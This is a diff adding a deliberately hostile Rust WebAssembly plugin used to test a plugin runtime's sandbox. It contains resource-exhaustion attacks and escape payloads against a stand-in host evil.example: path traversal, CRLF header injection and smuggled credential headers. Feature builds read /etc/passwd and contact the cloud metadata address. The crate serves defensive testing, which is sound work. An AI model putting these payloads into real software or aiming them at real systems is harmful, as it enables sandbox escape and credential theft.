@@ -1,0 +1,474 @@
+//! A deliberately hostile rules component, for testing the plugin runtime's isolation, limits
+//! and egress checks. The attack is chosen by the plugin config, e.g. `{"attack": "infinite-loop"}`
+//! (see [`Attack`]); it runs at the start of every export (`describe`, `condition`, `plan`).
+//!
+//! Built with one of the features `forbidden-fs`, `forbidden-sockets` or `forbidden-http`, the
+//! component instead imports a forbidden interface (wasi:filesystem, wasi:sockets, wasi:http) and
+//! must be refused at load time. This crate must never be shipped to a tenant or loaded outside
+//! tests, and none of its attacks may reach anything but the host's own checks.
+
+// Natively the crate is only unit-tested; the attacks run inside the component.
+#![cfg_attr(not(target_arch = "wasm32"), allow(dead_code))]
+
+use serde::Deserialize;
+
+#[cfg(not(feature = "forbidden-http"))]
+mod bindings {
+    wit_bindgen::generate!({
+        world: "plugin",
+        path: "../../wit",
+    });
+}
+
+#[cfg(feature = "forbidden-http")]
+mod bindings {
+    wit_bindgen::generate!({
+        world: "dealbridge:hostile/plugin-with-http",
+        path: ["../../wit", "wit/fake-wasi-http", "wit/hostile-http"],
+        generate_all,
+    });
+}
+
+use bindings::dealbridge::rules::crm::{self, Method, Request, RequestError};
+use bindings::dealbridge::rules::log::{self, Level};
+use bindings::dealbridge::rules::types::Crm;
+use bindings::exports::dealbridge::rules::rules::{ErrorKind, RuleError};
+
+/// The attacks, by their config name (`{"attack": NAME, ...}`).
+#[derive(Debug, Clone, Deserialize, PartialEq)]
+#[serde(tag = "attack", rename_all = "kebab-case", deny_unknown_fields)]
+pub enum Attack {
+    /// No attack: behaves (returns one up-to-date skip per pair). The default for `{}`.
+    None,
+    /// Spins forever: fuel or the deadline must stop it.
+    InfiniteLoop,
+    /// Recurses without end: a stack overflow trap.
+    DeepRecursion,
+    /// Allocates and touches memory until allocation fails: the memory limit must stop it.
+    MemoryBomb {
+        /// Bytes per allocation step (default 1 MiB).
+        #[serde(default)]
+        step: Option<usize>,
+    },
+    /// Returns an output far above the output limit.
+    HugeOutput {
+        /// Size of the returned text (default 8 MiB).
+        #[serde(default)]
+        bytes: Option<usize>,
+    },
+    /// Writes far more log than the log cap.
+    HugeLog {
+        /// Total bytes of log (default 16 MiB, in 1 KiB lines).
+        #[serde(default)]
+        bytes: Option<usize>,
+    },
+    /// Executes `unreachable`.
+    Trap,
+    /// Panics (an abort trap in WASM).
+    Panic,
+    /// Sends requests that try to escape the CRM API root or smuggle credentials; returns a
+    /// whole-call error of kind `other` whose message is `crm escapes: all N denied` when the
+    /// host denied every one, or names the first that was not denied.
+    CrmEscape {
+        /// Run only this case (see [`ESCAPES`]); all when absent.
+        #[serde(default)]
+        case: Option<String>,
+    },
+    /// Sends many valid requests: the outbound-request limit must stop it.
+    RequestFlood {
+        /// How many requests (default 10,000).
+        #[serde(default)]
+        count: Option<u32>,
+    },
+}
+
+/// One escape attempt: a name, the CRM, the path and extra headers.
+pub struct Escape {
+    /// The case name (`case` in the config).
+    pub name: &'static str,
+    /// Which CRM.
+    pub target: Crm,
+    /// The path the guest asks for.
+    pub path: &'static str,
+    /// Extra headers.
+    pub headers: &'static [(&'static str, &'static str)],
+}
+
+/// Every escape attempt, each of which the host must deny before anything leaves it.
+pub const ESCAPES: &[Escape] = &[
+    Escape {
+        name: "absolute-url",
+        target: Crm::Hubspot,
+        path: "http://evil.example/",
+        headers: &[],
+    },
+    Escape {
+        name: "dot-dot",
+        target: Crm::Hubspot,
+        path: "/crm/v3/../../admin",
+        headers: &[],
+    },
+    Escape {
+        name: "encoded-dot-dot",
+        target: Crm::Hubspot,
+        path: "/crm/v3/%2e%2e/%2e%2e/admin",
+        headers: &[],
+    },
+    Escape {
+        name: "encoded-dot-dot-upper",
+        target: Crm::Salesforce,
+        path: "/services/data/%2E%2E/%2E%2E/x",
+        headers: &[],
+    },
+    Escape {
+        name: "encoded-slash",
+        target: Crm::Hubspot,
+        path: "/crm/v3/%2f%2fevil.example/x",
+        headers: &[],
+    },
+    Escape {
+        name: "protocol-relative",
+        target: Crm::Hubspot,
+        path: "//evil.example/x",
+        headers: &[],
+    },
+    Escape {
+        name: "backslash",
+        target: Crm::Hubspot,
+        path: "/crm/v3/..\\..\\admin",
+        headers: &[],
+    },
+    Escape {
+        name: "no-leading-slash",
+        target: Crm::Hubspot,
+        path: "evil.example/x",
+        headers: &[],
+    },
+    Escape {
+        name: "query-in-path",
+        target: Crm::Hubspot,
+        path: "/crm/v3/owners?email=a@b.c",
+        headers: &[],
+    },
+    Escape {
+        name: "crlf-in-path",
+        target: Crm::Salesforce,
+        path: "/services/data/v62.0/query\r\nHost: evil.example",
+        headers: &[],
+    },
+    Escape {
+        name: "encoded-crlf-in-path",
+        target: Crm::Hubspot,
+        path: "/crm/v3/owners%0d%0aHost:%20evil.example",
+        headers: &[],
+    },
+    Escape {
+        name: "encoded-nul",
+        target: Crm::Hubspot,
+        path: "/crm/v3/owners%00.json",
+        headers: &[],
+    },
+    Escape {
+        name: "header-value-injection",
+        target: Crm::Hubspot,
+        path: "/crm/v3/owners",
+        headers: &[("X-A", "b\r\nHost: evil.example")],
+    },
+    Escape {
+        name: "header-name-injection",
+        target: Crm::Hubspot,
+        path: "/crm/v3/owners",
+        headers: &[("X-A\r\nHost", "evil.example")],
+    },
+    Escape {
+        name: "authorization-header",
+        target: Crm::Hubspot,
+        path: "/crm/v3/owners",
+        headers: &[("Authorization", "Bearer stolen")],
+    },
+    Escape {
+        name: "authorization-header-case",
+        target: Crm::Salesforce,
+        path: "/services/data/v62.0/limits",
+        headers: &[("aUtHoRiZaTiOn", "Bearer stolen")],
+    },
+    Escape {
+        name: "host-header",
+        target: Crm::Hubspot,
+        path: "/crm/v3/owners",
+        headers: &[("Host", "evil.example")],
+    },
+    Escape {
+        name: "cookie-header",
+        target: Crm::Salesforce,
+        path: "/services/data/v62.0/limits",
+        headers: &[("Cookie", "sid=stolen")],
+    },
+];
+
+fn hostile_error(message: String) -> RuleError {
+    RuleError {
+        kind: ErrorKind::Other,
+        field: None,
+        message,
+    }
+}
+
+fn parse_attack(json: &str) -> Result<Attack, RuleError> {
+    if json.trim() == "{}" || json.trim().is_empty() {
+        return Ok(Attack::None);
+    }
+    serde_json::from_str(json).map_err(|e| RuleError {
+        kind: ErrorKind::Config,
+        field: Some("attack".to_string()),
+        message: format!("unknown hostile config: {e}"),
+    })
+}
+
+#[inline(never)]
+#[allow(unconditional_recursion)]
+fn recurse(depth: u64, pad: &mut [u8; 256]) -> u64 {
+    pad[(depth % 256) as usize] = depth as u8;
+    let mut local = [0u8; 256];
+    local.copy_from_slice(pad);
+    std::hint::black_box(&mut local);
+    recurse(depth + 1, &mut local) + u64::from(local[0])
+}
+
+fn trap() -> ! {
+    #[cfg(target_arch = "wasm32")]
+    {
+        core::arch::wasm32::unreachable()
+    }
+    #[cfg(not(target_arch = "wasm32"))]
+    {
+        std::process::abort()
+    }
+}
+
+fn send(target: Crm, path: &str, headers: &[(&str, &str)]) -> Result<u16, RequestError> {
+    let req = Request {
+        target,
+        method: Method::Get,
+        path: path.to_string(),
+        query: Vec::new(),
+        headers: headers
+            .iter()
+            .map(|(k, v)| (k.to_string(), v.to_string()))
+            .collect(),
+        body: None,
+    };
+    crm::send(&req).map(|r| r.status)
+}
+
+/// Runs the configured attack. Returns `Ok(())` only for `none`; the others never return
+/// normally, or return the error they were built to produce.
+fn attack(a: &Attack) -> Result<(), RuleError> {
+    match a {
+        Attack::None => Ok(()),
+        Attack::InfiniteLoop => {
+            let mut x: u64 = 0;
+            loop {
+                x = std::hint::black_box(x.wrapping_add(1));
+            }
+        }
+        Attack::DeepRecursion => {
+            let n = recurse(0, &mut [0u8; 256]);
+            Err(hostile_error(format!("recursion returned {n}")))
+        }
+        Attack::MemoryBomb { step } => {
+            let step = step.unwrap_or(1 << 20).max(4096);
+            let mut hoard: Vec<Vec<u8>> = Vec::new();
+            loop {
+                let mut chunk = vec![0u8; step];
+                for i in (0..step).step_by(4096) {
+                    chunk[i] = 1;
+                }
+                hoard.push(std::hint::black_box(chunk));
+            }
+        }
+        Attack::HugeOutput { bytes } => {
+            let text = "x".repeat(bytes.unwrap_or(8 << 20));
+            Err(hostile_error(text))
+        }
+        Attack::HugeLog { bytes } => {
+            let line = "y".repeat(1024);
+            let lines = bytes.unwrap_or(16 << 20) / 1024;
+            for _ in 0..lines {
+                log::write(Level::Info, &line);
+            }
+            Err(hostile_error(format!("wrote {lines} log lines")))
+        }
+        Attack::Trap => trap(),
+        Attack::Panic => panic!("hostile component panics on purpose"),
+        Attack::CrmEscape { case } => {
+            let cases: Vec<&Escape> = ESCAPES
+                .iter()
+                .filter(|e| case.as_deref().is_none_or(|c| c == e.name))
+                .collect();
+            if cases.is_empty() {
+                return Err(hostile_error(format!("no escape case named {case:?}")));
+            }
+            for e in &cases {
+                match send(e.target, e.path, e.headers) {
+                    Ok(status) => {
+                        return Err(hostile_error(format!(
+                            "crm escape NOT denied: case {} got HTTP status {status}",
+                            e.name
+                        )));
+                    }
+                    Err(RequestError::Denied(_)) => {}
+                    Err(other) => {
+                        return Err(hostile_error(format!(
+                            "crm escape NOT denied: case {} failed otherwise: {other:?}",
+                            e.name
+                        )));
+                    }
+                }
+            }
+            Err(hostile_error(format!(
+                "crm escapes: all {} denied",
+                cases.len()
+            )))
+        }
+        Attack::RequestFlood { count } => {
+            let count = count.unwrap_or(10_000);
+            for i in 0..count {
+                if let Err(e) = send(Crm::Hubspot, "/crm/v3/owners", &[]) {
+                    return Err(hostile_error(format!(
+                        "request {} of {count} refused: {e:?}",
+                        i + 1
+                    )));
+                }
+            }
+            Err(hostile_error(format!("all {count} requests were sent")))
+        }
+    }
+}
+
+/// The forbidden imports of the feature builds, exercised so the linker keeps them.
+fn forbidden() -> Result<(), RuleError> {
+    #[cfg(feature = "forbidden-fs")]
+    {
+        let text = std::fs::read_to_string("/etc/passwd").unwrap_or_default();
+        return Err(hostile_error(format!(
+            "read {} bytes from /etc/passwd",
+            text.len()
+        )));
+    }
+    #[cfg(feature = "forbidden-sockets")]
+    {
+        let ok = std::net::TcpStream::connect("169.254.169.254:80").is_ok();
+        return Err(hostile_error(format!(
+            "connected to the metadata service: {ok}"
+        )));
+    }
+    #[cfg(feature = "forbidden-http")]
+    {
+        let status = bindings::wasi::http::handler::handle("http://evil.example/");
+        return Err(hostile_error(format!("direct HTTP status {status}")));
+    }
+    #[allow(unreachable_code)]
+    Ok(())
+}
+
+#[cfg(target_arch = "wasm32")]
+mod component {
+    use super::bindings::dealbridge::rules::config;
+    use super::bindings::dealbridge::rules::types::{Batch, FieldInfo, ObjectPair};
+    use super::bindings::exports::dealbridge::rules::rules::{
+        Description, Guest, Inclusion, PairOutcome, RuleError, Skip,
+    };
+    use super::{attack, forbidden, parse_attack};
+
+    struct Hostile;
+
+    fn run() -> Result<(), RuleError> {
+        forbidden()?;
+        attack(&parse_attack(&config::get())?)
+    }
+
+    impl Guest for Hostile {
+        fn describe(_schema: Vec<FieldInfo>) -> Result<Description, RuleError> {
+            run()?;
+            Ok(Description {
+                name: "dealbridge-hostile".to_string(),
+                version: env!("CARGO_PKG_VERSION").to_string(),
+                object_pairs: vec![ObjectPair::OpportunityDeal],
+                mappings: Vec::new(),
+                extra_fields: Vec::new(),
+            })
+        }
+
+        fn condition(batch: Batch) -> Result<Vec<Inclusion>, RuleError> {
+            run()?;
+            Ok(batch.pairs.iter().map(|_| Inclusion::Include).collect())
+        }
+
+        fn plan(batch: Batch) -> Result<Vec<PairOutcome>, RuleError> {
+            run()?;
+            Ok(batch
+                .pairs
+                .iter()
+                .map(|_| PairOutcome::Skip(Skip::UpToDate))
+                .collect())
+        }
+    }
+
+    super::bindings::export!(Hostile with_types_in super::bindings);
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+
+    #[test]
+    fn config_selects_the_attack() {
+        assert_eq!(parse_attack("{}").unwrap(), Attack::None);
+        assert_eq!(
+            parse_attack(r#"{"attack":"infinite-loop"}"#).unwrap(),
+            Attack::InfiniteLoop
+        );
+        assert_eq!(
+            parse_attack(r#"{"attack":"huge-output","bytes":10}"#).unwrap(),
+            Attack::HugeOutput { bytes: Some(10) }
+        );
+        assert_eq!(
+            parse_attack(r#"{"attack":"crm-escape","case":"dot-dot"}"#).unwrap(),
+            Attack::CrmEscape {
+                case: Some("dot-dot".into())
+            }
+        );
+        let e = parse_attack(r#"{"attack":"nope"}"#).unwrap_err();
+        assert_eq!(e.kind, ErrorKind::Config);
+    }
+
+    #[test]
+    fn escape_cases_have_unique_names_and_each_is_hostile() {
+        for (i, e) in ESCAPES.iter().enumerate() {
+            assert!(
+                ESCAPES[..i].iter().all(|o| o.name != e.name),
+                "duplicate {}",
+                e.name
+            );
+            let p = e.path.to_ascii_lowercase();
+            let bad_path = !p.starts_with('/')
+                || p.starts_with("//")
+                || p.contains("..")
+                || p.contains("%2e")
+                || p.contains("%2f")
+                || p.contains('\\')
+                || p.contains('?')
+                || p.contains('\r')
+                || p.contains("%0d")
+                || p.contains("%00");
+            let bad_header = e.headers.iter().any(|(k, v)| {
+                let k = k.to_ascii_lowercase();
+                k.contains('\r')
+                    || v.contains('\r')
+                    || ["authorization", "host", "cookie"].contains(&k.as_str())
+            });
+            assert!(bad_path || bad_header, "case {} is harmless", e.name);
+        }
+    }
+}
